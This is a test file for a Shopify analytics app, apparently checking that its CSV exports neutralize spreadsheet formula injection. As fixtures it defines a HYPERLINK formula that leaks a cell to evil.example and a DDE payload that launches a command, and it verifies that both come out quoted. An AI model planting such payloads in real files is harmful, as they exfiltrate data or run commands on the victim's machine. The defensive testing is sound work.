import { readdirSync, readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SimulationReport } from '../../../engine/index.ts';
import type { OrderRecord, ReturnRecord } from '../../../sdk/index.ts';
import { startTestApp, type TestApp } from '../../testing/testApp.ts';
import { neutralizeCell, toCsv } from './csv.ts';

/**
 * CSV exports never hand a spreadsheet a formula (issue 19, "CSV exports write formulas raw"):
 * a text cell starting with =, +, -, @, tab or carriage return is prefixed with ' (OWASP), in
 * every export, while numbers stay numbers.
 */
const SHOP = 'csv.myshopify.com';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const DDE = "+cmd|' /C calc'!A0";
let app: TestApp;

async function csv(url: string): Promise<Record<string, string>[]> {
  const response = await app.server.inject({ method: 'GET', url, headers: { authorization: `Bearer ${await app.sessionToken(SHOP)}` } });
  expect(response.statusCode, `${url}: ${response.payload}`).toBe(200);
  expect(response.headers['content-type']).toContain('text/csv');
  return parse(response.payload, { columns: true }) as Record<string, string>[];
}

beforeAll(async () => {
  app = await startTestApp();
  await app.installShop(SHOP);
});
afterAll(async () => {
  await app?.stop();
});

describe('the shared CSV helper', () => {
  it('prefixes text cells that start with =, +, -, @, tab or carriage return, and leaves numbers and other text alone', () => {
    for (const evil of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', HYPERLINK, DDE]) expect(neutralizeCell(evil)).toBe(`'${evil}`);
    for (const plain of ['SKU-1', 'a=b', '', ' =1', 'gid://shopify/Order/1', "'=already"]) expect(neutralizeCell(plain)).toBe(plain);
    // Numeric text (a PostgreSQL numeric column arrives as a string) is a number, not a formula.
    for (const numeric of ['-5', '-12.50', '+3', '1e5', '-0.001']) expect(neutralizeCell(numeric)).toBe(numeric);
    const rows = parse(toCsv([[HYPERLINK, -5, 0, 'ok', DDE, -2.5]], ['a', 'b', 'c', 'd', 'e', 'f']), { columns: true }) as Record<string, string>[];
    expect(rows).toEqual([{ a: `'${HYPERLINK}`, b: '-5', c: '0', d: 'ok', e: `'${DDE}`, f: '-2.5' }]);
  });

  it('is the only way the routes write CSV', () => {
    const dir = new URL('./', import.meta.url);
    const users = readdirSync(dir).filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts') && readFileSync(new URL(f, dir), 'utf8').includes('csv-stringify'));
    expect(users).toEqual(['csv.ts']);
  });
});

describe('every export that carries text neutralizes formulas', () => {
  it('goals.csv: a goal note', async () => {
    const added = await app.server.inject({
      method: 'POST', url: '/api/goals', headers: { authorization: `Bearer ${await app.sessionToken(SHOP)}` },
      payload: { metric: 'chargebacks', reduceByPct: 10, startsOn: '2026-01-01', endsOn: '2026-06-01', note: HYPERLINK },
    });
    expect(added.statusCode, added.payload).toBe(201);
    const rows = await csv('/api/analytics/goals.csv');
    expect(rows[0]!.note).toBe(`'${HYPERLINK}`);
    expect(rows[0]!.metric).toBe('chargebacks');
  });

  it('skus.csv: a returned SKU and its title', async () => {
    const at = new Date(Date.now() - 2 * 86_400_000).toISOString();
    const order: OrderRecord = {
      id: 'gid://shopify/Order/7001', customerId: 'gid://shopify/Customer/7001', createdAt: at, currency: 'USD', totalPrice: 10, subtotalPrice: 10, totalDiscounts: 0,
      discountCodes: [], gateways: ['manual'], shippingLines: [], identity: {}, tags: [],
      lineItems: [{ id: 'gid://shopify/LineItem/7001', sku: DDE, title: HYPERLINK, quantity: 2, price: 5, totalDiscount: 0 }],
    };
    const ret: ReturnRecord = { id: 'gid://shopify/Return/7001', orderId: order.id, status: 'CLOSED', createdAt: at, exchangeLineItemCount: 0, totalValue: 5, lineItems: [{ lineItemId: 'gid://shopify/LineItem/7001', sku: DDE, quantity: 1 }] };
    await app.stores.events.upsertAll(SHOP, [{ type: 'order', order }, { type: 'return', return: ret }]);
    const rows = await csv('/api/analytics/skus.csv');
    expect(rows[0]).toMatchObject({ sku: `'${DDE}`, title: `'${HYPERLINK}`, sold: '2', returned: '1' });
  });

  it('chargebacks disputes.csv: a stored order id', async () => {
    await app.stores.events.upsert(SHOP, { type: 'chargeback', chargeback: { id: 'gid://shopify/ShopifyPaymentsDispute/7001', orderId: '@SUM(1+1)*cmd', initiatedAt: new Date(Date.now() - 86_400_000).toISOString(), amount: 12.5 } });
    const rows = await csv('/api/chargebacks/disputes.csv');
    expect(rows.map((r) => r.order)).toContain("'@SUM(1+1)*cmd");
  });

  it('flips.csv: subject, customer and label of each flip; negative scores stay numbers', async () => {
    const sim = await app.stores.simulations.create({ shop_id: SHOP, version: 1, against_version: 1, window_from: new Date('2026-01-01'), window_to: new Date('2026-02-01'), created_by: 'test' });
    const flip = { subjectId: '=1+1', kind: 'order', at: '2026-01-05T00:00:00Z', customerId: '-2+3', before: { score: -5, zone: 'low' }, after: { score: 70, zone: 'high' }, label: '@evil', immature: false };
    await app.stores.simulations.finish(sim.id, { flips: [flip] } as unknown as SimulationReport, 1);
    const rows = await csv(`/api/simulations/${sim.id}/flips.csv`);
    expect(rows).toEqual([{ subject: "'=1+1", kind: 'order', at: '2026-01-05T00:00:00Z', customer: "'-2+3", score_before: '-5', zone_before: 'low', score_after: '70', zone_after: 'high', label: "'@evil", immature: 'no' }]);
  });

  it('the other exports still answer (summary, refund methods, every chargeback table)', async () => {
    await csv('/api/analytics/summary.csv');
    await csv('/api/refund-methods.csv');
    for (const table of ['disputes', 'repeat-offenders', 'double-dips', 'unshipped', 'by-month']) await csv(`/api/chargebacks/${table}.csv`);
  });
});
